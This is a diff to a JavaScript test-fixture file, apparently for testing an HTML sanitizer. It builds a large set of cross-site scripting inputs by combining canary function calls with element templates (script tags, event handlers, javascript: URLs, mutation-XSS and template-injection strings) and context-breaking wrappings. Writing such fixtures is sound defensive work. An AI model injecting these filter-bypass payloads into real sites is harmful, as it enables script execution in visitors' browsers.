@@ -47,4 +47,49 @@ const SHAPES = [
   '\uFFFD\uFFFE\u{E0041}',
 ];
 
-export const HOSTILE = [...SCRIPTS, ...SHAPES];
+const CALLS = ['canary(1)', "self['canary'](1)", 'top.canary(1)', 'canary`1`', 'setTimeout(canary)'];
+
+const ELEMENTS = [
+  (call) => `<script>${call}</script>`,
+  (call) => `<ScRiPt\n>${call}</sCrIpT >`,
+  (call) => `<img src=x onerror=${call}>`,
+  (call) => `<img src="x" onerror="${call}" `,
+  (call) => `<svg/onload=${call}//`,
+  (call) => `<svg><script>${call}</script></svg>`,
+  (call) => `<svg><a xlink:href="javascript:${call}"><text y=9>x</text></a></svg>`,
+  (call) => `<math><mtext></form><form><mglyph><style></math><img src onerror=${call}>`,
+  (call) => `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
+  (call) => `<object data="data:text/html,<script>${call}</script>"></object>`,
+  (call) => `<a href="java&#9;script:${call}">x</a>`,
+  (call) => `<details open ontoggle=${call}>x</details>`,
+  (call) => `<input autofocus onfocus=${call}>`,
+  (call) => `<video><source onerror=${call}></video>`,
+  (call) => `<style>@keyframes x{}</style><p style="animation:x" onanimationstart=${call}>`,
+  (call) => `<template><script>${call}</script></template>`,
+  (call) => `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
+  (call) => `<xmp><p title="</xmp><svg/onload=${call}>">`,
+  (call) => `{{constructor.constructor('${call}')()}}\${${call}}<%= ${call} %>`,
+  (call) => `[x](javascript:${call}) ![x](x "onerror=${call}")`,
+  (call) => `<ѕсrірt>${call}</ѕсrірt>`,
+];
+
+const WRAPPINGS = [
+  (text) => text,
+  (text) => `">${text}`,
+  (text) => `'>${text}<!--`,
+  (text) => `</textarea></title></style></script>${text}`,
+  (text) => `<![CDATA[${text}]]>`,
+  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
+  (text) => encodeURIComponent(text),
+  (text) => `https://shop.example/${text}`,
+  (text) => `\u202E${text}\u200B`,
+  (text) => text.replaceAll('<', '\\u003c'),
+];
+
+/** Every wrapping of every element around every call. */
+export const BUILT = CALLS.flatMap((call) => ELEMENTS.flatMap((element) => WRAPPINGS.map((wrap) => wrap(element(call)))));
+
+/** Some of them in one message: each stands on a line of its own. */
+const PAGES = Array.from({ length: Math.ceil(BUILT.length / 70) }, (_, i) => BUILT.slice(i * 70, i * 70 + 70).join('\n'));
+
+export const HOSTILE = [...SCRIPTS, ...SHAPES, ...PAGES];
